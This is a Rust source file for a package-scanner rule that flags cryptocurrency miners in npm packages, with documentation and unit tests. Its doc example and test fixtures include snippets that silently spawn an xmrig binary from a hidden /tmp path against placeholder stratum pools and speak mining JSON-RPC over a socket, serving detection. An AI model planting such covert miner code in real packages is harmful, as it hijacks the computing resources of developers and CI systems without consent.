//! `cryptominer`: mining-pool URLs, the stratum protocol, miner binaries and their options.

use crate::declare_rule;
use crate::detect::campaigns::{self, Confidence};
use crate::rule::{Rule, RuleContext, RuleMeta};
use ferret_core::{Action, PackageFacts};

declare_rule! {
    /// ## What it does
    /// Reports code that mines cryptocurrency: `stratum+tcp://` pool URLs, the stratum
    /// JSON-RPC methods (`mining.subscribe`, `mining.authorize`) spoken over a socket, miner
    /// binaries (`xmrig`, `xmr-stak`, `cpuminer`) with miner options (`--donate-level`,
    /// `--cpu-max-threads-hint`) or public pools, and in-browser miners (Coinhive).
    ///
    /// ## Why is this a risk?
    /// A miner burns the CPU of every developer machine and CI runner that installs the
    /// package, and is usually dropped by a compromised release together with a credential
    /// stealer (ua-parser-js, coa and rc, October–November 2021).
    ///
    /// ## Example
    /// ```js
    /// require("child_process").spawn("/tmp/.x/xmrig", ["-o", "stratum+tcp://pool.example:3333",
    ///   "-u", "<wallet>", "--donate-level=0"], { detached: true });
    /// ```
    ///
    /// ## False positives
    /// Mining software packages themselves. A miner that the same file can start (it spawns
    /// processes, or opens a socket and speaks stratum) is warned; names alone (ad-blocker
    /// lists of browser-miner domains, a pool URL in a config) are only recorded (monitor).
    ///
    /// ## References
    /// - ua-parser-js 0.7.29 (GHSA-pjwm-rvh2-c87w); GuardDog `threat-process-cryptomining`
    Cryptominer, id = "cryptominer", category = Malicious, severity = High, action = Warn,
}

impl Rule for Cryptominer {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check_package(&self, pkg: &PackageFacts, cx: &mut RuleContext) {
        let detected = cx.shared(pkg, campaigns::Campaigns::detect);
        let Some(ev) = detected.get(Self::META.id) else {
            return;
        };
        let action = match ev.confidence {
            Confidence::High => Self::META.default_action,
            Confidence::Medium => Action::Monitor,
        };
        if let Some(f) = ev.finding(&Self::META, action) {
            cx.report(f);
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::tester::Tester;
    use ferret_core::Action;

    #[test]
    fn cryptominer() {
        let pass = [
            // Hashing in workers is not mining.
            (
                "index.js",
                "const c = require('crypto'); module.exports = (s) => c.createHash('sha256').update(s).digest('hex');",
            ),
            // A "miner" that is a data miner.
            (
                "a.js",
                "const { spawn } = require('child_process'); spawn('git', ['log', '--format=%H']); // text-miner\n\
                 module.exports = 'text-mining toolkit';",
            ),
            // An ad-blocker list naming browser miners, no way to run one.
            (
                "list.js",
                "module.exports = ['coinhive.com', 'coin-hive.com', 'authedmine.com'];",
            ),
        ];
        let fail = [
            (
                "install.js",
                "const { spawn } = require('child_process');\n\
                 spawn('/tmp/.cache/xmrig', ['-o', 'stratum+tcp://pool.supportxmr.example:3333', '--donate-level=0']);",
            ),
            (
                "index.js",
                "const net = require('net'); const s = net.connect(5555, 'xmr.pool.example');\n\
                 s.write(JSON.stringify({ id: 1, method: 'mining.subscribe', params: [] }));\n\
                 s.write(JSON.stringify({ id: 2, method: 'mining.authorize', params: ['w', 'x'] }));",
            ),
        ];
        let t = Tester::new(super::Cryptominer).pass(pass).fail(fail);
        t.test_and_snapshot();
        let only_url = t.findings([(
            "cfg.js",
            "module.exports = { pool: 'stratum+tcp://pool.example:3333' };",
        )]);
        assert_eq!(only_url[0].action, Action::Monitor);
    }
}
